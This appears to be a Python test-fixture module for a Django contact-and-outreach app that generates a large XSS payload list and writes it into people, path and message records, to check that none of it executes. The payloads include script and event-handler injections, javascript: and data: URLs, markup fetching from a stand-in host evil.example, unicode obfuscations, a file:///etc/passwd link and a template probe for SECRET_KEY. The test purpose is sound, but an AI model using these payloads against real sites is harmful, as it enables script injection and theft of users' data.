"""Two hundred texts that want to be more than text, and a home that is full of them.

They call `alert`, or ask a server called evil.example for something; neither may ever happen.
"""

from itertools import product

from django.db import transaction

from askaround.accounts.models import User
from askaround.journeys.commands.importing import finish_import, open_import
from askaround.kit.clock import now
from askaround.outreach import commands as outreach
from askaround.outreach.models import Message
from askaround.paths import commands as paths
from askaround.paths.rules import PathDetails
from askaround.people import commands as people
from askaround.people.rules import PersonDetails

_SCRIPTS = (
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script/src=//evil.example/a.js></script>",
    "<script src='http://evil.example/a.js' defer></script>",
    "<script type=module>import 'http://evil.example/a.js'</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</option></select><script>alert(1)</script>",
    "</pre></code><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<script\n>alert(1)</script\n>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<noscript><p title='</noscript><script>alert(1)</script>'>",
    "<template><script>alert(1)</script></template>",
)
_HANDLERS = tuple(
    f"{before}<{tag} {event}=alert(1){after}>"
    for (before, after), (tag, event) in product(
        (("", ""), ("\"'>", " x="), ("</p>", "//")),
        (
            ("img src=x", "onerror"),
            ("img src=http://evil.example/i.png", "onload"),
            ("body", "onload"),
            ("svg", "onload"),
            ("input autofocus", "onfocus"),
            ("details open", "ontoggle"),
            ("video src=http://evil.example/v", "onloadstart"),
            ("audio src=x", "onerror"),
            ("marquee", "onstart"),
            ("a href=#x tabindex=0", "onclick"),
            ("div style=animation:x", "onanimationstart"),
            ("p", "hx-on:load"),
            ("p hx-get=http://evil.example/h hx-trigger=load", "hx-on::after-request"),
        ),
    )
)
_QUOTES = (
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)" x="',
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    "` onmouseover=`alert(1)",
    'x" style="background:url(http://evil.example/b)',
    'x" formaction="javascript:alert(1)',
    '" hx-get="http://evil.example/q" hx-trigger="load',
    "\\\" onload=alert(1) \\'",
)
_ADDRESSES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "\x01javascript:alert(1)",
    " javascript:alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)",
    "javascript://example.org/%0aalert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "blob:http://evil.example/x",
    "//evil.example/a",
    "\\\\evil.example\\a",
    "http:javascript:alert(1)",
    "jar:http://evil.example!/",
    "feed:javascript:alert(1)",
)
_LINKS = tuple(
    shape.format(address)
    for address, shape in product(
        _ADDRESSES, ("{}", "[click]({})", "![picture]({})", "<a href='{}'>click</a>")
    )
)
_FRAMES = (
    "<iframe src=http://evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=http://evil.example/o></object>",
    "<embed src=http://evil.example/e>",
    "<frameset><frame src=http://evil.example></frameset>",
    "<portal src=http://evil.example></portal>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<base href=http://evil.example/>",
    "<link rel=stylesheet href=http://evil.example/c.css>",
    "<link rel=prefetch href=http://evil.example/p>",
    "<link rel=dns-prefetch href=//evil.example>",
    "<form action=http://evil.example><input name=x><button>Go on</button></form>",
    "<form><button formaction=javascript:alert(1)>Go on</button></form>",
    "<style>@import 'http://evil.example/c.css';</style>",
    "<style>*{background:url(http://evil.example/b)}</style>",
    "<p style='background:url(http://evil.example/b)'>x</p>",
    "<table background=http://evil.example/b><tr><td>x</table>",
    "<img srcset='http://evil.example/1 1x'>",
    "<picture><source srcset=http://evil.example/2></picture>",
    "<video poster=http://evil.example/p></video>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
    "<svg><use href='http://evil.example/u#x'/></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><foreignObject><iframe src=http://evil.example></iframe></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href=javascript:alert(1)>x</math>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- <img src=http://evil.example/c> -->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<x-evil onclick=alert(1)>x</x-evil>",
)
_MARKDOWN = (
    "![x](http://evil.example/i.png)",
    "![x][1]\n\n[1]: http://evil.example/i.png",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "[x](http://example.org 'a\" onmouseover=alert(1)')",
    '[x](http://example.org"onmouseover="alert(1))',
    "[![x](http://evil.example/i.png)](javascript:alert(1))",
    "<javascript:alert(1)>",
    '<http://example.org/"onmouseover=alert(1)>',
    "```html\n<script>alert(1)</script>\n```",
    '```" onload=alert(1)\nx\n```',
    "`<img src=x onerror=alert(1)>`",
    "| a |\n| --- |\n| <img src=x onerror=alert(1)> |",
    "> <iframe src=http://evil.example>",
    "# <svg/onload=alert(1)>",
    "~~<img src=x onerror=alert(1)>~~",
    "[a]: <javascript:alert(1)>\n\n[a]",
    "<div>\n\n[x](javascript:alert(1))\n\n</div>",
    "www.example.org/<script>alert(1)</script>",
    "mailto:x@example.org?<script>alert(1)</script>",
)
_TRICKS = (
    "{{ 7|add:7 }}{% now 'Y' %}",
    "{% load static %}{% debug %}",
    "{{ request.user }}{{ settings.SECRET_KEY }}",
    "${alert(1)} #{alert(1)} <%= alert(1) %>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "＜script＞alert(1)＜/script＞",
    "‹img src=x onerror=alert(1)›",
    "\u202e>tpircs/<)1(trela>tpircs<",
    "<\u200bscript>alert(1)</script>",
    "<scrıpt>alert(1)</scrıpt>",
    "<ſcript>alert(1)</ſcript>",
    "\ufeff<script>alert(1)</script>",
    "<img\u2028src=x\u2028onerror=alert(1)>",
    "<img\x0csrc=x\x0conerror=alert(1)>",
    "<a\u00a0onclick=alert(1)>x</a>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
)
PAYLOADS = (*_SCRIPTS, *_HANDLERS, *_QUOTES, *_LINKS, *_FRAMES, *_MARKDOWN, *_TRICKS)


def payload(number: int) -> str:
    """Return a payload; numbers go round."""
    return PAYLOADS[number % len(PAYLOADS)]


def fill(owner: User, payloads: range, *, plain: bool = False) -> list[Message]:
    """Put a person, a path and a message on file for each number: each payload once in each place.

    Where `plain`, harmless texts stand in their places, to see what such pages are made of.
    """
    return [_tell(owner, number, plain=plain) for number in payloads]


@transaction.atomic
def _tell(owner: User, number: int, *, plain: bool) -> Message:
    def text(place: int) -> str:
        return f"harmless {number} {place}" if plain else payload(number + place)

    profile = "https://example.org/mia" if plain else text(3)
    details = PersonDetails(
        given_name=text(0),
        family_name=text(1),
        title=text(2),
        organisation=text(4),
        profiles=(profile,),
        mails=("mia@example.org" if plain else text(5),),
        phones=(text(6),),
        tie="colleague",
        tie_detail=text(7),
    )
    person = people.add_person(owner=owner, details=details, now=now()).subject
    people.edit_notes(owner=owner, person=person, version=1, notes=text(0), now=now())
    path = paths.add_path(
        owner=owner, details=PathDetails(text(0), text(1), text(2), text(3)), now=now()
    ).subject
    message = outreach.begin_message(owner=owner, person=person, path=path, now=now())
    outreach.set_objective(
        owner=owner, message=message.uuid, version=message.version, text=text(0), now=now()
    )
    message.refresh_from_db()
    said = {"subject": text(1), "body": text(0), "version": message.version}
    outreach.edit_message(owner=owner, message=message.uuid, now=now(), **said)
    message.refresh_from_db()
    return message


def bring_in(owner: User, content: bytes, name: str) -> str:
    """Import a file and return the identifier of the import."""
    batch = open_import(owner=owner, file_name=name, pieces=[content], now=now())
    finish_import(owner=owner, batch=batch.uuid, now=now(), progress=lambda _rows, _share: None)
    return str(batch.uuid)
